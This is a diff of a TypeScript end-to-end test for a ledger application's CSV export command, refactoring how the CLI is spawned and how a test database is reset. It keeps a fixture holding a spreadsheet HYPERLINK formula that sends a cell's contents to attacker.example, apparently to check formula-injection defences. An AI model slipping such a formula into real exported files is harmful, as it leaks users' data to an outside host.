@@ -1,14 +1,13 @@
 import { Decimal } from '#domain';
 import { openDatabase } from '#event-store';
-import { spawnSync } from 'node:child_process';
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { ruleSet } from '../../libs/domain/src/commission/testing/commission-builders.js';
 import { parseCsv } from '../support/csv.js';
 import { startLedger } from '../support/ledger-app.js';
+import { runCli } from '../support/cli.js';
 
-const cliPath = join(import.meta.dirname, '../../dist/apps/ledger/src/cli.js');
 const secret = 'e2e-secret-that-is-at-least-32-characters';
 const formulaReason = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
 
@@ -18,12 +17,7 @@ const formulaReason = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
  */
 describe('the export command line', () => {
   let dataDir: string;
-  const cli = (...args: string[]) =>
-    spawnSync(process.execPath, [cliPath, ...args], {
-      env: { ...process.env, LEDGER_DATA_DIR: dataDir, LEDGER_JWT_SECRET: secret },
-      encoding: 'utf8',
-      timeout: 60_000,
-    });
+  const cli = (...args: string[]) => runCli(dataDir, secret, ...args);
 
   beforeAll(async () => {
     dataDir = mkdtempSync(join(tmpdir(), 'ledger-export-'));
@@ -95,9 +89,10 @@ describe('the export command line', () => {
     await ledger.app.close();
     // As if the service had stopped before projecting the statements: the command catches up on its own.
     const db = openDatabase(join(dataDir, 'read-models.sqlite'));
-    db.exec(
-      "DELETE FROM statement_disputes; DELETE FROM statement_lines; DELETE FROM statements; UPDATE projection_checkpoints SET position = '0' WHERE name = 'statements'",
-    );
+    db.exec(`
+      DELETE FROM statement_disputes; DELETE FROM statement_lines; DELETE FROM statements;
+      UPDATE projection_checkpoints SET position = '0' WHERE name = 'statements'
+    `);
     db.close();
   });
   afterAll(() => rmSync(dataDir, { recursive: true, force: true }));
